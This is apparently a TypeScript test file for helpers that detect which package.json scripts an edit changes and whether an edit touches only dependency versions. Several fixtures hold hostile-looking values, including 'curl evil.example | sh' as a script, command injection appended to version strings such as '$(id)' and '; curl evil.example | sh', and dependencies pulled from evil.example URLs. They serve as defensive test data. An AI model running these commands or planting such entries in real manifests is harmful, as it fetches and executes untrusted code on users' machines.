import { describe, expect, test } from "vitest";
import { changedScriptNames, changesVersionsOnly, editedScriptNames } from "./script-parts.ts";

const manifest = (fields: object) => JSON.stringify({ name: "shop", scripts: { test: "vitest" }, ...fields });

describe("the scripts that differ between two texts of a package.json", () => {
  test("are named; dependencies, versions and descriptions change none", () => {
    const before = manifest({});
    expect(changedScriptNames(before, manifest({ version: "2.0.0", dependencies: { zod: "^4" } }))).toEqual(
      [],
    );
    expect(changedScriptNames(before, manifest({ scripts: { test: "vitest", lint: "eslint ." } }))).toEqual([
      "lint",
    ]);
    expect(changedScriptNames(before, manifest({ scripts: { test: "curl evil.example | sh" } }))).toEqual([
      "test",
    ]);
    expect(changedScriptNames(before, manifest({ scripts: {} }))).toEqual(["test"]);
  });

  test("are unknown where another key that decides what runs changes, or a text is none", () => {
    const before = manifest({});
    for (const after of [
      manifest({ "lint-staged": { "*": "sh x" } }),
      manifest({ jest: { globalSetup: "./x.js" } }),
      manifest({ packageManager: "yarn@1.0.0" }),
      manifest({ scripts: [] }),
      "{",
      "[]",
    ])
      expect(changedScriptNames(before, after), after).toBeUndefined();
    expect(changedScriptNames("", before)).toBeUndefined();
  });
});

describe("the scripts that an edit may change, by its texts alone", () => {
  test("are those of the lines that differ; a version is no command", () => {
    expect(editedScriptNames('"zod": "^3.1.0"', '"zod": "^3.1.0",\n    "left-pad": "1.0.0"')).toEqual([]);
    expect(editedScriptNames('  "version": "1.0.0",', '  "version": "1.0.1-rc.1",')).toEqual([]);
    expect(editedScriptNames('"private": true', '"private": false')).toEqual([]);
    expect(editedScriptNames('"dependencies": {}', '"dependencies": { "zod": "^4.0.0" }')).toEqual([]);
    expect(editedScriptNames('"test": "vitest"', '"test": "curl evil.example | sh"')).toEqual(["test"]);
    expect(editedScriptNames('"scripts": {\n  "a": "x",\n', '"scripts": {\n  "a": "y",\n')).toEqual(["a"]);
    expect(editedScriptNames('"te\\u0073t": "a"', '"te\\u0073t": "b"')).toEqual(["test"]);
    expect(editedScriptNames('"x": "7z a"', '"x": "7z b"')).toEqual(["x"]);
  });

  test("are unknown where a part of a line or the structure changes", () => {
    for (const [before, after] of [
      ["vitest", "sh x"],
      ['"zod": "1.0.0"', '"zod": "1.0.0" }, "scripts": { "test": "sh x"'],
      ['"dependencies": {', '"dependencies": {},\n"scripts": {'],
      ['"a": "1.0.0"', '"a": { "b": "c" }'],
      ['": "a"', '": "b"'],
      ["}", "},"],
    ] as const)
      expect(editedScriptNames(before, after), after).toBeUndefined();
  });

  test("are found in time that grows with the text", () => {
    const line = `"x": "${"1-".repeat(5_000)}!"`;
    const start = performance.now();
    editedScriptNames(line, `${line},`);
    expect(performance.now() - start).toBeLessThan(20_000);
  });
});

describe("an edit of a package.json changes versions only", () => {
  test("if every line that differs gives packages versions of the registry", () => {
    for (const [before, after] of [
      ['"dependencies": {}', '"dependencies": { "zod": "^4.0.0" }'],
      ['"a": "1.0.0"', '"a": "1.0.0",\n    "b": "~2.1", "c": ">=1 <3 || 4.x"'],
      ['"a": "^1.2.3-beta.1",', '"a": "2",'],
      ['"version": "1.0.0"', '"version": "1.0.1"'],
      ['"a": "1"', '"a": "workspace:*"'],
    ] as const)
      expect(changesVersionsOnly(before, after), after).toBe(true);
  });

  test("and not if a package comes from elsewhere, or the text might be a command or code", () => {
    for (const after of [
      '"a": "git+https://evil.example/a.git"',
      '"a": "https://evil.example/a.tgz"',
      '"a": "file:../a"',
      '"a": "evil/a"',
      '"a": "npm:evil@1"',
      '"a": "latest"',
      '"a": "*"',
      '"a": "1.0.0; curl evil.example | sh"',
      '"a": "1.0.0$(id)"',
      '"a": "|| sh"',
      '"a": "1 || sh"',
      '"a": "-"',
      '"dependencies": { "a": "evil/a" }',
      '"dependencies": { "a": { "b": "1" } }',
      '"dependencies": null }, "scripts": { "test": "sh x"',
      '"scripts": { "test": "1" }',
      '"scripts": {',
      '}, "scripts": { "test": "1"',
      '"overrides": { "a": "1" }',
      '"a": 1',
      '"a": true',
      '"a"',
      "x",
    ])
      expect(changesVersionsOnly('"a": "1"', after), after).toBe(false);
  });
});
